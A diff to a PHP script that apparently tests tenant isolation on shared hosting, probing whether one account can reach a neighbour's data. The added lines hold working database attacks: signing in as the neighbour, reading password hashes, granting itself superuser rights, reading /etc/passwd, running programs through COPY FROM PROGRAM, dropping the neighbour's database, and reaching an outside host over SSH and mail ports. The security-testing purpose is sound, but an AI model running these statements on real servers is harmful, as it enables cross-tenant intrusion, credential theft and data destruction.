@@ -3,7 +3,7 @@
 // Nothing here is destructive beyond the attacker's own folders.
 error_reporting(0);
 set_time_limit(50);
-[$victim, $victimUid] = [$_GET['victim'], (int) $_GET['uid']];
+[$victim, $victimUid, $here, $outside] = [$_GET['victim'], (int) $_GET['uid'], $_GET['here'], $_GET['outside']];
 $self = posix_getpwuid(posix_geteuid())['name'];
 $own = "/srv/web/$self";
 $their = "/srv/web/$victim";
@@ -47,6 +47,48 @@ function fastcgi(string $socket, string $script): ?string
     $link = @stream_socket_client("unix://$socket", $code, $text, 2);
     if (!$link) return null;
     return "reached the pool behind $socket";
+}
+
+// Signed in with what the attacker really has: its own password, for its own account.
+function maria(string $account, string $database): ?mysqli
+{
+    global $own;
+    return @mysqli_connect(null, $account, peek("$own/private/password"), $database, 0, '/run/mysqld/mysqld.sock') ?: null;
+}
+
+function postgres(string $account, string $database): ?PgSql\Connection
+{
+    global $own;
+    $password = peek("$own/private/password");
+    return @pg_connect("host=/run/postgresql user=$account password=$password dbname=$database connect_timeout=2", PGSQL_CONNECT_FORCE_NEW) ?: null;
+}
+
+/** First value of the first statement that answers one. */
+function told(callable $ask, string ...$statements): ?string
+{
+    foreach ($statements as $statement) {
+        try {
+            $value = $ask($statement);
+        } catch (Throwable) {
+            $value = null;
+        }
+        if ($value) return "$statement: $value";
+    }
+    return null;
+}
+
+function toldByMaria(string ...$statements): ?string
+{
+    global $self;
+    $link = maria("{$self}_shop", "{$self}_shop");
+    return told(fn($words) => ($rows = $link->query($words)) === true ? 'done' : ($rows ? $rows->fetch_row()[0] ?? null : null), ...$statements);
+}
+
+function toldByPostgres(string ...$statements): ?string
+{
+    global $self;
+    $link = postgres("{$self}_wiki", "{$self}_wiki");
+    return told(fn($words) => ($rows = @pg_query($link, $words)) ? (pg_num_rows($rows) ? pg_fetch_result($rows, 0, 0) : (pg_affected_rows($rows) ? 'done' : null)) : null, ...$statements);
 }
 
 $attacks = [
@@ -108,11 +150,26 @@ $attacks = [
     'lists the sockets of pools' => fn() => (fn($names) => array_diff(explode(' ', $names ?? ''), ['', $self]) ? $names : null)(listed('/run/amie-fpm')),
     'reaches the system\'s bus' => fn() => connected('unix:///run/dbus/system_bus_socket') ?? connected('unix:///run/systemd/private'),
     'reaches the mail services' => fn() => connected('unix:///var/spool/postfix/public/pickup') ?? connected('unix:///run/dovecot/doveadm-server') ?? connected('tcp://127.0.0.1:25'),
+    'hands mail to a server outside' => fn() => connected("tcp://$outside:25") ?? connected("tcp://$outside:993"),
+    'reaches SSH, behind which the agent is' => fn() => connected('tcp://127.0.0.1:22') ?? connected("tcp://$here:22") ?? connected("tcp://$outside:22"),
     'writes to the system\'s journal' => fn() => connected('udg:///run/systemd/journal/socket') ?? connected('udg:///run/systemd/journal/dev-log'),
     'reaches a database over the network' => fn() => connected('tcp://127.0.0.1:3306') ?? connected('tcp://127.0.0.1:5432'),
     'signs in to MariaDB as root' => fn() => (fn() => ($db = @mysqli_connect(null, 'root', '', null, 0, '/run/mysqld/mysqld.sock')) ? 'signed in' : null)(),
-    'signs in to MariaDB as the neighbour' => fn() => @mysqli_connect(null, "{$victim}_shop", '', "{$victim}_shop", 0, '/run/mysqld/mysqld.sock') ? 'signed in' : null,
+    'signs in to MariaDB as the neighbour' => fn() => maria("{$victim}_shop", "{$victim}_shop") ? 'signed in' : null,
+    'opens the neighbour\'s database of MariaDB with its own account' => fn() => maria("{$self}_shop", "{$victim}_shop") ? 'signed in' : null,
+    'opens MariaDB\'s own tables' => fn() => maria("{$self}_shop", 'mysql') ? 'signed in' : null,
+    'reads and writes the neighbour\'s tables of MariaDB from its own' => fn() => toldByMaria("SELECT note FROM {$victim}_shop.notes", "INSERT INTO {$victim}_shop.notes VALUES ('x')", "CREATE TABLE {$victim}_shop.planted (i int)", "DROP DATABASE {$victim}_shop"),
+    'sees that the neighbour has a database of MariaDB' => fn() => toldByMaria("SHOW DATABASES LIKE '{$victim}%'", "SELECT table_name FROM information_schema.tables WHERE table_schema = '{$victim}_shop'", "SELECT user FROM information_schema.processlist WHERE user NOT LIKE '{$self}%'"),
+    'reads accounts of MariaDB' => fn() => toldByMaria('SELECT authentication_string FROM mysql.user', 'SELECT Priv FROM mysql.global_priv'),
+    'gives itself more in MariaDB' => fn() => toldByMaria("GRANT ALL ON *.* TO {$self}_shop@localhost", "ALTER USER {$self}_shop@localhost WITH MAX_USER_CONNECTIONS 999", "CREATE USER planted", 'SET GLOBAL tmpdir = "/"', 'SET GLOBAL general_log = 1', 'INSTALL SONAME "ha_federated"'),
+    'reads and writes files by MariaDB' => fn() => toldByMaria("SELECT LOAD_FILE('/etc/passwd')", "SELECT 1 INTO OUTFILE '/var/lib/mysql/planted'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE notes"),
     'signs in to PostgreSQL as its owner' => fn() => @pg_connect('host=/run/postgresql user=postgres dbname=postgres connect_timeout=2') ? 'signed in' : null,
+    'signs in to PostgreSQL as the neighbour' => fn() => postgres("{$victim}_wiki", "{$victim}_wiki") ? 'signed in' : null,
+    'opens the neighbour\'s database of PostgreSQL with its own account' => fn() => postgres("{$self}_wiki", "{$victim}_wiki") ? 'signed in' : null,
+    'opens the databases of PostgreSQL that are nobody\'s' => fn() => postgres("{$self}_wiki", 'postgres') || postgres("{$self}_wiki", 'template1') ? 'signed in' : null,
+    'becomes the neighbour or the owner in PostgreSQL' => fn() => toldByPostgres("SET ROLE {$victim}_wiki; SELECT current_user", "SET SESSION AUTHORIZATION {$victim}_wiki; SELECT current_user", 'SET ROLE postgres; SELECT current_user', "GRANT {$victim}_wiki TO {$self}_wiki; SELECT 1", "ALTER ROLE {$self}_wiki SUPERUSER; SELECT 1", "ALTER ROLE {$self}_wiki CONNECTION LIMIT 999; SELECT 1", "SELECT rolpassword FROM pg_authid WHERE rolpassword <> ''"),
+    'reads and writes files, and starts programs, by PostgreSQL' => fn() => toldByPostgres("SELECT pg_read_file('/etc/passwd')", "SELECT pg_ls_dir('/srv/databases/mounts')", "COPY notes FROM '/etc/passwd'", "COPY notes FROM PROGRAM 'id'", "COPY notes TO '/srv/databases/mounts/{$victim}_wiki/data/planted'", "SELECT lo_import('/etc/passwd')", "CREATE EXTENSION file_fdw; SELECT 1"),
+    'puts a table into the neighbour\'s disk space of PostgreSQL, or nobody\'s' => fn() => toldByPostgres("CREATE TABLE planted TABLESPACE {$victim}_wiki AS SELECT 1", 'CREATE TABLE planted TABLESPACE pg_global AS SELECT 1', 'CREATE TABLE planted TABLESPACE pg_default AS SELECT 1'),
     'starts a program' => fn() => @shell_exec('id') ?: (@exec('/bin/id') ?: null),
     'starts a program it brought along' => fn() => (function () use ($own) {
         @file_put_contents("$own/tmp/run", "#!/bin/sh\nid\n");
@@ -181,6 +238,7 @@ header('Content-Type: application/json');
 $basedir = ini_get('open_basedir') !== '';
 // That the script can see anything at all, so that silence means refusal.
 $control = peek("$own/private/own");
+$reached = ['web' => connected('tcp://127.0.0.1:443'), 'mariadb' => toldByMaria('SELECT note FROM notes'), 'postgresql' => toldByPostgres('SELECT note FROM notes')];
 $answers = [];
 foreach ($attacks as $name => $attack) {
     try {
@@ -189,4 +247,4 @@ foreach ($attacks as $name => $attack) {
         $answers[$name] = null;
     }
 }
-echo json_encode(['control' => $control, 'basedir' => $basedir, 'answers' => $answers]);
+echo json_encode(['control' => $control, 'reached' => $reached, 'basedir' => $basedir, 'answers' => $answers]);
